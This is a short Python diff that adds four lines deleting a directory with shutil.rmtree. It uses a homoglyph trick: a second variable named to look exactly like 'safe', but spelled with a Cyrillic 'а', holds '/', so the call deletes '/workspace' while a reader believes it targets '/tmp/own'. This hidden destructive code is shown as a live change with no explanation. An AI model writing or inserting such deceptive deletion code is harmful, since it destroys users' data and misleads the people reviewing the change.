@@ -1,0 +1,4 @@
+safe = "/tmp/own"
+sаfe = "/"
+import shutil
+shutil.rmtree(sаfe + "workspace")
